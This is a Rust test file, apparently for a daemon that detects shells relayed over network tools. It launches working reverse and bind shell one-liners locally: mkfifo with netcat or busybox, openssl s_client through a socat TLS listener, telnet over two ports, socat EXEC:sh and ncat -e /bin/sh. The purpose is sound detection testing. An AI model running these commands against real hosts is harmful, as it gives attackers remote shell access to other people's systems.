//! Network tools with a shell behind a FIFO, a pipe or a socketpair.

use std::net::UdpSocket;

use crate::common::attacker::{Listener, Session, chosen_port};
use crate::common::daemon::Daemon;
use crate::common::notes::note;
use crate::common::relayed::{Relayed, prove_relayed};
use crate::common::victim::Victim;
use crate::common::wait_for;
use crate::require;

/// Runs a line of bash in a directory of its own, with PORT replaced, and proves its shell.
fn bash(line: &str, expected: &Relayed) {
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let line = line.replace("PORT", &attacker.port().to_string());
    let line = format!("cd {}; {line}", directory.path().display());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], expected);
}

#[test]
fn fifo_and_netcat() {
    require!("bash", "nc.openbsd");
    Daemon::shared();
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh pipe", "cat pipe", "cat pipe", "nc.openbsd pipe", "nc.openbsd socket"],
        ..Relayed::default()
    };
    bash("mkfifo f; cat f | sh -i 2>&1 | nc.openbsd 127.0.0.1 PORT >f", &expected);
}

#[test]
fn fifo_and_busybox() {
    require!("bash", "busybox");
    Daemon::shared();
    let expected = Relayed {
        exe: "busybox",
        args: &["busybox", "sh"],
        hops: &["busybox pipe", "busybox pipe", "busybox socket"],
        ..Relayed::default()
    };
    bash("mkfifo f; busybox nc 127.0.0.1 PORT <f | busybox sh >f 2>&1", &expected);
}

#[test]
fn fifo_and_traditional_netcat_with_bash() {
    require!("bash", "nc.traditional");
    Daemon::shared();
    let expected = Relayed {
        exe: "bash",
        args: &["bash"],
        fds: &[0, 1],
        hops: &["bash pipe", "nc.traditional pipe", "nc.traditional socket"],
        ..Relayed::default()
    };
    bash("mkfifo f; bash <f 2>/dev/null | nc.traditional 127.0.0.1 PORT >f", &expected);
}

/// The attacker's side of TLS, in front of a plain listener; the port that the victim connects to.
pub fn tls(directory: &std::path::Path, to: u16) -> (Victim, u16) {
    let port = chosen_port();
    let line = format!(
        "cd {} && openssl req -x509 -newkey rsa:2048 -nodes -keyout key -out crt -days 2 -subj /CN=box 2>/dev/null && \
         cat key crt >pem && \
         exec socat OPENSSL-LISTEN:{port},bind=127.0.0.1,reuseaddr,cert=pem,verify=0,fork TCP:127.0.0.1:{to}",
        directory.display()
    );
    let server = Victim::start("/bin/bash", &["-c", &line]);
    let row = format!("0100007F:{port:04X}");
    wait_for("the TLS listener", || {
        let table = std::fs::read_to_string("/proc/net/tcp").unwrap();
        table.lines().any(|line| line.contains(&row) && line.contains(" 0A ")).then_some(())
    });
    (server, port)
}

#[test]
fn fifo_and_openssl() {
    require!("bash", "openssl", "socat");
    Daemon::shared();
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let (server, port) = tls(directory.path(), attacker.port());
    let line = format!(
        "cd {}; mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:{port} >f 2>/dev/null",
        directory.path().display()
    );
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh pipe", "openssl pipe", "openssl socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[port], &expected);
    drop(server);
}

/// Commands come over one connection, and what they print goes over another.
struct TwoWays {
    commands: Session,
    answers: Session,
}

fn two_ways(line: &str, expected: &Relayed) {
    let (commands, answers) = (Listener::tcp(), Listener::tcp());
    let ports = [commands.port(), answers.port()];
    let line = line.replace("PORT1", &ports[0].to_string()).replace("PORT2", &ports[1].to_string());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut both = TwoWays { commands: commands.accept(), answers: answers.accept() };
    both.commands.send("echo pid''=$$.\n");
    both.answers.hear("pid=");
    let shell: u32 = both.answers.hear(".").parse().unwrap();
    let daemon = Daemon::shared();
    let found = crate::common::relayed::wait_or_show(daemon, &ports, "row 4", |record| {
        record.row() == expected.row && record.process(shell).is_some()
    });
    note(daemon, &found);
    assert_eq!(found.severity(), expected.severity, "{}", found.brief());
    assert_eq!(found.numbers("Socket_Fds"), expected.fds, "{}", found.brief());
    assert_eq!(crate::common::relayed::hops(&found), expected.hops, "{}", found.brief());
    // It lives long enough to be read on a busy machine.
    both.commands.send("(sleep 0.2; echo he''ard) | /bin/cat; :\n");
    both.answers.hear("heard");
    crate::common::relayed::wait_or_show(daemon, &ports, "cat joins", |record| {
        record.id() == found.id() && record.ran(&["/bin/cat"])
    });
    both.commands.send("exit\n");
    crate::common::relayed::ends(daemon, victim, &ports, &found, 1);
}

#[test]
fn telnet_with_two_ports() {
    require!("bash", "telnet");
    Daemon::shared();
    let expected =
        Relayed { fds: &[0, 1, 2], hops: &["sh pipe", "telnet pipe", "telnet socket"], ..Relayed::default() };
    two_ways(
        "tail -f /dev/null | telnet 127.0.0.1 PORT1 2>/dev/null | sh 2>&1 | telnet 127.0.0.1 PORT2",
        &expected,
    );
}

#[test]
fn one_client_a_direction() {
    require!("bash", "nc.openbsd");
    Daemon::shared();
    let expected = Relayed {
        fds: &[0, 1],
        hops: &["sh pipe", "nc.openbsd pipe", "nc.openbsd socket"],
        ..Relayed::default()
    };
    two_ways("nc.openbsd -d 127.0.0.1 PORT1 | sh 2>/dev/null | nc.openbsd 127.0.0.1 PORT2", &expected);
}

/// Runs a network tool that connects to PORT.
fn tool(program: &str, arguments: &[&str], expected: &Relayed) {
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let arguments: Vec<String> = arguments.iter().map(|a| a.replace("PORT", &port)).collect();
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let victim = Victim::start(program, &arguments);
    prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], expected);
}

#[test]
fn socat_as_it_does_by_itself() {
    require!("socat");
    Daemon::shared();
    let expected =
        Relayed { fds: &[0, 1], hops: &["sh unix", "socat unix", "socat socket"], ..Relayed::default() };
    tool("socat", &["TCP:127.0.0.1:PORT", "EXEC:sh"], &expected);
}

#[test]
fn socat_with_pipes_and_stderr() {
    require!("socat");
    Daemon::shared();
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh pipe", "socat pipe", "socat socket"],
        ..Relayed::default()
    };
    tool("socat", &["TCP:127.0.0.1:PORT", "EXEC:sh -i,pipes,stderr"], &expected);
}

#[test]
fn socat_udp() {
    require!("socat");
    Daemon::shared();
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let victim = Victim::start("socat", &[&format!("UDP:127.0.0.1:{port}"), "EXEC:sh -i,stderr"]);
    let expected = Relayed {
        args: &["sh", "-i"],
        hops: &["sh unix", "socat unix", "socat socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), Session::first_datagram(socket), victim, &[port], &expected);
}

#[test]
fn ncat_executes() {
    require!("ncat");
    Daemon::shared();
    let expected = Relayed {
        args: &["/bin/sh"],
        fds: &[0, 1],
        hops: &["sh pipe", "ncat pipe", "ncat socket"],
        ..Relayed::default()
    };
    tool("ncat", &["127.0.0.1", "PORT", "-e", "/bin/sh"], &expected);
}

#[test]
fn ncat_listens_and_executes() {
    require!("ncat");
    Daemon::shared();
    let port = chosen_port();
    let text = port.to_string();
    let victim = Victim::start("ncat", &["-l", "127.0.0.1", &text, "--sh-exec", "exec sh -i 2>&1"]);
    let session = Session::dial("127.0.0.1", port);
    let expected = Relayed {
        args: &["sh", "-i"],
        execs: 2,
        direction: "inbound",
        hops: &["sh pipe", "ncat pipe", "ncat socket"],
        ..Relayed::default()
    };
    prove_relayed(Daemon::shared(), session, victim, &[port], &expected);
}
